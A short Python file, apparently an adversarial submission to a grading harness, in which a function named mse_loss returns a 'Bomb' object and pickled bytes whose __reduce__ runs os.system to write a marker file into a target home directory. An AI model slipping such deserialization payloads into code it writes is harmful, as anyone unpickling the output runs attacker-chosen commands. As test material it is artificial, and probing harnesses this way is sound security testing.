# /// submission
# about = "Wire: hands over objects that run code when they are unpickled, and bytes of pickles."
# lost = ["mse_loss", "fit"]
# ///

# %% mse_loss
import json
import os
import pickle

target = json.load(open("target.json"))


class Bomb:
    def __reduce__(self):
        return os.system, (f"echo planted > {target['home']}/unpickled",)


def mse_loss(y_pred, y_true):
    return [Bomb(), pickle.dumps(Bomb()) if len(y_pred) == 3 else b"\x80\x04", bytearray(pickle.dumps([1])), Bomb]
